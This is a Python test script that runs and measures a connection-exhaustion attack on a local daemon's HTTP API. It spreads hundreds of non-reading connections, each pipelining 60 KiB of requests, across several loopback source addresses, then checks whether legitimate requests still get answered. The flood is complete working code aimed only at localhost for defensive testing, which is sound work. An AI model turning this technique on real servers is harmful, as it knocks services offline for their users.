#!/usr/bin/env python3
"""HTTP lock-out attack on nomsyncd's API (issue 10, item 6), and its measure.

    ns_httpflood.py --port PORT --token TOKEN [--conns 520] [--sources 17]
                    [--wait 15]

Opens --conns connections to 127.0.0.1:PORT from --sources loopback
addresses (127.0.0.2, 127.0.0.3, ...; Linux lets a socket bind any 127/8
address), each with a small receive buffer, and on each pipelines 60 KiB of requests
for the login page (some 6 MB of responses), never reading a byte. Then, from 127.0.0.1, it times GET /healthz and an authenticated GET
/v1/status (each given 5 s), and watches the attacking connections (without
reading) until the server has closed them all or --wait seconds have passed.

Prints one JSON object: conns, sources, healthz_status, healthz_ms,
auth_status, auth_ms (status 0: no answer within 5 s), open_after (attacking
connections still open at the end), closed_by_s (seconds from the attack's
start until the last one closed, null if some stayed open). Python 3
standard library only.
"""
import argparse
import json
import select
import socket
import time

REQUEST = b'GET / HTTP/1.1\r\nHost: x\r\n\r\n'


def attack(port, source, blob):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.bind((source, 0))
    s.settimeout(2)
    try:
        s.connect(('127.0.0.1', port))
    except OSError:
        return s
    s.setblocking(False)
    off = 0
    while off < len(blob):
        try:
            n = s.send(blob[off:])
        except OSError:
            break  # the server stopped reading (or closed): the rest stays unsent
        if n <= 0:
            break
        off += n
    return s


def timed_get(port, path, token):
    """(status, milliseconds); status 0 when nothing came back within 5 s."""
    t0 = time.monotonic()
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    status = 0
    try:
        s.bind(('127.0.0.1', 0))
        s.connect(('127.0.0.1', port))
        auth = ('Authorization: Bearer %s\r\n' % token) if token else ''
        s.sendall(('GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n%sConnection: close\r\n\r\n' % (path, auth)).encode())
        head = b''
        while b'\r\n' not in head:
            chunk = s.recv(4096)
            if not chunk:
                break
            head += chunk
        if head.startswith(b'HTTP/1.1 '):
            status = int(head[9:12])
    except OSError:
        status = 0
    finally:
        s.close()
    return status, round((time.monotonic() - t0) * 1000)


def hung_up(s):
    p = select.poll()
    p.register(s, select.POLLRDHUP)
    ev = p.poll(0)
    return bool(ev and ev[0][1] & (select.POLLRDHUP | select.POLLHUP | select.POLLERR | select.POLLNVAL))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split('\n\n')[0])
    ap.add_argument('--port', type=int, required=True)
    ap.add_argument('--token', required=True)
    ap.add_argument('--conns', type=int, default=520)
    ap.add_argument('--sources', type=int, default=17)
    ap.add_argument('--wait', type=float, default=15)
    args = ap.parse_args()

    # 60 KiB: under the 64 KiB the server once kept of a connection's pipelined bytes before closing it
    blob = REQUEST * (60 * 1024 // len(REQUEST))
    t0 = time.monotonic()
    socks = [attack(args.port, '127.0.0.%d' % (2 + i % args.sources), blob) for i in range(args.conns)]
    time.sleep(0.3)
    healthz = timed_get(args.port, '/healthz', None)
    auth = timed_get(args.port, '/v1/status', args.token)
    closed_at = None
    while True:
        still = sum(1 for s in socks if not hung_up(s))
        if still == 0:
            closed_at = round(time.monotonic() - t0, 1)
            break
        if time.monotonic() - t0 > args.wait:
            break
        time.sleep(0.05)
    for s in socks:
        s.close()
    print(json.dumps({'conns': args.conns, 'sources': args.sources, 'healthz_status': healthz[0],
                      'healthz_ms': healthz[1], 'auth_status': auth[0], 'auth_ms': auth[1],
                      'open_after': still, 'closed_by_s': closed_at}))


if __name__ == '__main__':
    main()
